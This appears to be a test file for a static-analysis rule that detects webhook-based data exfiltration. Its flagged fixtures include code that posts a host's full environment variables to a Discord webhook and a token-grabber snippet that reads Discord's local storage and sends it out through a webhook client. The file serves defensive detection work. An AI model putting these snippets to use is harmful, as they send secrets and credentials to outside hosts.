import { ruleTest } from '../../testing/rule-tester.js';
import rule from './webhook-exfil.js';

ruleTest(rule, {
  clean: [
    {
      name: 'discord.js bot replying to messages (no webhook)',
      file: 'bot.js',
      code: `const { Client } = require('discord.js');\nconst c = new Client({ intents: [] });\nc.on('messageCreate', (m) => m.reply('pong'));\n`,
    },
    {
      name: 'docs link to the Telegram bot API',
      file: 'src/help.ts',
      code: `export const HELP = 'See https://core.telegram.org/bots/api for details';\n`,
    },
  ],
  flagged: [
    {
      name: 'CI notifier posting a message to Telegram (low)',
      file: 'scripts/notify.js',
      code: `fetch('https://api.telegram.org/bot' + process.env.TG_TOKEN + '/sendMessage', { method: 'POST', body: JSON.stringify({ chat_id: 1, text: 'deployed' }) });\n`,
      findings: [{ line: 1, severity: 'low', confidence: 'low' }],
    },
    {
      name: 'env + hostname dumped to a Discord webhook',
      file: 'index.js',
      code: `const os = require('os');
const body = JSON.stringify({ content: os.hostname() + ' ' + JSON.stringify(process.env) });
require('https').request('https://discord.com/api/webhooks/1139/abcDEF-123', { method: 'POST' }).end(body);
`,
      findings: [{ line: 3, severity: 'high', confidence: 'high', message: /Discord webhook receiving host identity, the whole environment/ }],
    },
    {
      name: 'discord.js WebhookClient with token grabber',
      file: 'src/stealer.ts',
      code: `import { WebhookClient } from 'discord.js';
import * as fs from 'fs';
const tokens = fs.readdirSync(process.env.APPDATA + '/discord/Local Storage/leveldb');
const client = new WebhookClient('766342517549301771', 'r5lq');
client.send(tokens.join(','));
`,
      findings: [{ line: 4, severity: 'high', confidence: 'high' }],
    },
  ],
});
